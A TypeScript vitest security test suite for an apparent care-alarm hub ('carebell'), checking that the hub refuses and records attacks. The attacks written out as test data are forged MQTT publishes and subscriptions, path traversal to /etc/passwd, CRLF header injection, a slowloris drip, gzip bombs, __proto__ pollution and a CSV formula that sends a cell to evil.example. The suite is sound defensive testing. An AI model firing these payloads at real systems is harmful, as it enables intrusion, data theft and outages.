import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { request as httpRequest } from 'node:http';
import type { IncomingHttpHeaders } from 'node:http';
import { connect as connectTcp } from 'node:net';
import { gzipSync } from 'node:zlib';
import { apiRoot } from '@carebell/contracts/http-api.ts';
import { liveFeedPath } from '@carebell/contracts/live-feed.ts';
import type { Resident } from '@carebell/contracts/registry.ts';
import { buildTopic } from '@carebell/contracts/topics.ts';
import { io } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiWith, logIn } from '../api.ts';
import { password, settle } from '../community.ts';
import type { Community } from '../community.ts';
import { eventually, eventuallyTold } from '../eventually.ts';
import { connack, connectAs, openRaw, packet } from '../raw-party.ts';
import { timesRefused } from '../records.ts';
import { startHub } from '../scenario-hub.ts';
import type { ScenarioHub } from '../scenario-hub.ts';
import { connectTo } from '../virtual-party.ts';

let hub: ScenarioHub;
let community: Community;

beforeAll(async () => {
  hub = await startHub();
  community = await settle(hub);
});
afterAll(() => hub.stop());

const isRecorded = (reason: string, subject: string): Promise<void> =>
  eventuallyTold(async () => expect(await timesRefused(hub.admin, reason, subject)).toBeGreaterThan(0));

type Answer = { status: number; headers: IncomingHttpHeaders; text: string };

/** Sends a path as it stands: `fetch` would tidy it first. */
async function send(
  method: string,
  path: string,
  headers: Record<string, string> = {},
  body?: string | Buffer,
) {
  return new Promise<Answer>((resolve, reject) => {
    const { hostname, port } = new URL(hub.url);
    const sent = httpRequest({ hostname, port, method, path, headers }, (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () =>
        resolve({
          status: response.statusCode ?? 0,
          headers: response.headers,
          text: Buffer.concat(chunks).toString(),
        }),
      );
    });
    sent.on('error', reject);
    sent.end(body);
  });
}

describe('a device whose secret was stolen', () => {
  it.each([
    ['the events of another device', 'publish-topic-of-another', () => community.door.id],
    ['a device that nobody registered', 'publish-topic-of-another', () => 'nobodys-button'],
  ])('does not speak for %s', async (_, reason, deviceId) => {
    const thief = await connectTo(hub, community.button, { clientId: 'thief', reconnectPeriod: 0 });
    const topic = buildTopic({ of: 'device', deviceId: deviceId(), kind: 'event' });
    thief.publish(topic, JSON.stringify({ id: 'forged', kind: 'button.pressed' }), { qos: 1 });
    await isRecorded(reason, community.button.id);
    const events = await hub.admin.get<{ items: unknown[] }>(`/events?deviceId=${deviceId()}`);
    expect(events.body.items ?? []).toEqual([]);
    await thief.endAsync(true);
  });

  it.each([
    ['what all devices say', 'carebell/v1/devices/+/event', 'subscribe-wildcard-filter'],
    ['everything', '#', 'subscribe-wildcard-filter'],
    ['the broker itself', '$SYS/#', 'subscribe-system-topic'],
    ['a share of the rest', '$share/thieves/carebell/v1/#', 'subscribe-shared-subscription'],
    ['what another is told', 'carebell/v1/devices/OTHER/command', 'subscribe-topic-of-another'],
  ])('does not hear %s', async (_, filter, reason) => {
    const thief = await connectTo(hub, community.button, { clientId: 'thief', reconnectPeriod: 0 });
    const wanted = filter.replace('OTHER', community.door.id);
    // mqtt.js rejects a subscription that is answered by 128, failure.
    await expect(thief.subscribeAsync(wanted)).rejects.toThrow(/Unspecified error|failure|128/i);
    await isRecorded(reason, community.button.id);
    await thief.endAsync(true);
  });

  it('fills no memory with one packet of 200 MB', async () => {
    const raw = await openRaw(hub);
    raw.write(connectAs(community.button));
    await eventually(() => expect(raw.received()).toEqual(connack(0)));
    raw.write(packet(0x30, Buffer.from([0, 1, 0x61]), 200_000_000));
    await eventually(() => expect(raw.isClosed()).toBe(true));
    await isRecorded('packet-too-large', community.button.id);
  });
});

describe('a stranger on the network', () => {
  it('does not choose the session that a person will have', async () => {
    const planted = `carebell_session=${randomBytes(32).toString('base64url')}`;
    const answer = await send(
      'POST',
      `${apiRoot}/session`,
      { cookie: planted, 'content-type': 'application/json' },
      JSON.stringify({ name: 'li', password }),
    );
    expect(answer.status).toBe(200);
    const given = answer.headers['set-cookie']?.find((cookie) => cookie.startsWith('carebell_session='));
    expect(given).toMatch(/HttpOnly.*SameSite=Strict/);
    expect(given).not.toContain(planted);
    expect((await send('GET', `${apiRoot}/session`, { cookie: planted })).status).toBe(401);
  });

  it('does not act through the browser of an operator who visits another page', async () => {
    const headers = { cookie: community.operator.cookie, 'content-type': 'application/json' };
    const body = JSON.stringify({ stationId: community.station.id, userIds: [] });
    for (const foreign of [
      { origin: 'https://evil.example' },
      { 'sec-fetch-site': 'cross-site' },
      { origin: 'null' },
    ]) {
      const answer = await send('POST', `${apiRoot}/duty/hand-over`, { ...headers, ...foreign }, body);
      expect({ status: answer.status, code: JSON.parse(answer.text).code }).toEqual({
        status: 403,
        code: 'cross-site',
      });
    }
    await isRecorded('http-cross-site', 'unknown-caller');
    expect(
      (await send('OPTIONS', `${apiRoot}/alarms`, { origin: 'https://evil.example' })).headers,
    ).not.toHaveProperty('access-control-allow-origin');
  });

  it('does not open the live feed from another page', async () => {
    const socket = io(hub.url, {
      path: liveFeedPath,
      transports: ['websocket'],
      reconnection: false,
      extraHeaders: { cookie: community.operator.cookie, origin: 'https://evil.example' },
      auth: { screenId: 'evil' },
    });
    await new Promise((resolve) => {
      socket.once('connect_error', resolve);
    });
    expect(socket.connected).toBe(false);
    socket.disconnect();
    await isRecorded('screen-foreign-origin', 'unknown-screen');
  });

  it('guesses no token, and is slowed down while it tries', async () => {
    const answers = await Promise.all(
      Array.from({ length: 200 }, () =>
        apiWith(hub.url, { authorization: `Bearer carebell_${randomBytes(32).toString('base64url')}` }).get(
          '/residents',
        ),
      ),
    );
    expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([401]));
    await isRecorded('http-not-authenticated', 'unknown-caller');
  });

  it('guesses no password: after twenty tries of a minute its address waits, and the operator still logs in', async () => {
    const statuses: number[] = [];
    for (let guess = 0; guess < 8; guess += 1) {
      const body = JSON.stringify({ name: 'li', password: `guess number ${guess}` });
      statuses.push(
        (await send('POST', `${apiRoot}/session`, { 'content-type': 'application/json' }, body)).status,
      );
    }
    expect(statuses).toEqual([401, 401, 401, 401, 423, 423, 423, 423]);
    const { body: session } = await community.operator.get<{ user: { id: string } }>('/session');
    await isRecorded('login-wrong-password', session.user.id);
    await isRecorded('login-locked', session.user.id);
    expect((await community.operator.get('/session')).status).toBe(200);
    expect((await logIn(hub.url, 'zhang', password)).cookie).not.toBe('');
  });

  it.each([
    '/../../../../etc/passwd',
    '/..%2f..%2f..%2fpackage.json',
    '/%2e%2e/%2e%2e/package.json',
    '/assets/..%5c..%5c..%5cpackage.json',
    '/assets/%2e%2e%2f%2e%2e%2findex.ts',
    '/assets/....//....//package.json',
    '/.git/config',
    '/assets/%00/../index.html',
    '/data/carebell.db',
    '//etc/passwd',
  ])('reads no file by %s', async (path) => {
    const { status, text } = await send('GET', path);
    expect(status).toBeGreaterThanOrEqual(400);
    expect(text).not.toMatch(/root:|"workspaces"|SQLite format|\[core\]/);
  });

  it('writes no header into a download', async () => {
    const injected = `${apiRoot}/residents/x%0d%0aSet-Cookie:%20stolen=1/export`;
    const { status, headers } = await send('GET', injected, { cookie: hub.admin.cookie });
    expect(status).toBe(404);
    expect(headers).not.toHaveProperty('set-cookie');
  });

  it('holds no place by saying a letter a second', { timeout: 60_000 }, async () => {
    const { hostname, port } = new URL(hub.url);
    const slow = connectTcp(Number(port), hostname);
    const end = Promise.race([once(slow, 'close'), once(slow, 'end')]);
    slow.on('error', () => undefined);
    slow.resume();
    slow.write('GET / HTTP/1.1\r\nHost: hub\r\n');
    const drip = setInterval(() => slow.write('X'), 500);
    const sinceMs = performance.now();
    await end;
    clearInterval(drip);
    expect(performance.now() - sinceMs).toBeLessThan(20_000);
    slow.destroy();
    await isRecorded('http-too-slow', '(nobody)');
  });
});

describe('a person with a log-in who means harm', () => {
  const evil = '=HYPERLINK("http://evil.example?"&A1,"王")';

  it('hides no formula in a table that another will open', async () => {
    await hub.admin.create<Resident>('/residents', {
      dwellingId: community.dwelling.id,
      name: evil,
      handlingNotes: '+1+1\r\nSet-Cookie: x=1',
    });
    const { text, status } = await send('GET', `${apiRoot}/export/residents.csv`, {
      cookie: hub.admin.cookie,
    });
    expect(status).toBe(200);
    expect(text).toContain('HYPERLINK');
    for (const cell of text.split(/,|\r\n/)) expect(cell).not.toMatch(/^"?[=+@\t]/);
  });

  it.each([
    ['a body of 80 MB', () => Buffer.alloc(80_000_000, 0x20), {}, 413],
    [
      'a body of 50 MB in 50 KB',
      () => gzipSync(Buffer.alloc(50_000_000, 0x20)),
      { 'content-encoding': 'gzip' },
      400,
    ],
    ['a list in a list in a list', () => '['.repeat(200_000) + ']'.repeat(200_000), {}, 400],
    ['keys that would change every object', () => '{"rows":[],"__proto__":{"isAdmin":true}}', {}, 400],
    [
      'an Excel file where rows are asked for',
      () => gzipSync('PK'),
      { 'content-type': 'application/zip' },
      415,
    ],
  ])('stops no import with %s', async (_, body, headers: Record<string, string>, status) => {
    const answer = await send(
      'POST',
      `${apiRoot}/import/residents`,
      { cookie: hub.admin.cookie, 'content-type': 'application/json', ...headers },
      body(),
    );
    expect(answer.status).toBe(status);
    expect((await send('GET', '/healthz')).status).toBe(200);
  });

  it('takes no rights by naming them in a change of their own record', async () => {
    const { body } = await community.operator.get<{ user: { id: string } }>('/session');
    const change = await community.operator.patch(`/users/${body.user.id}`, { role: 'administrator' });
    expect(change.status).toBe(403);
    const token = await community.operator.post('/tokens', { name: 'mine' });
    expect(token.status).toBe(403);
    await isRecorded('http-forbidden', body.user.id);
  });

  it('reads no other station by its identifiers', async () => {
    for (const path of [`/residents/${community.resident.id}`, `/dwellings/${community.dwelling.id}`])
      expect((await community.otherOperator.get(path)).status).toBe(404);
  });
});
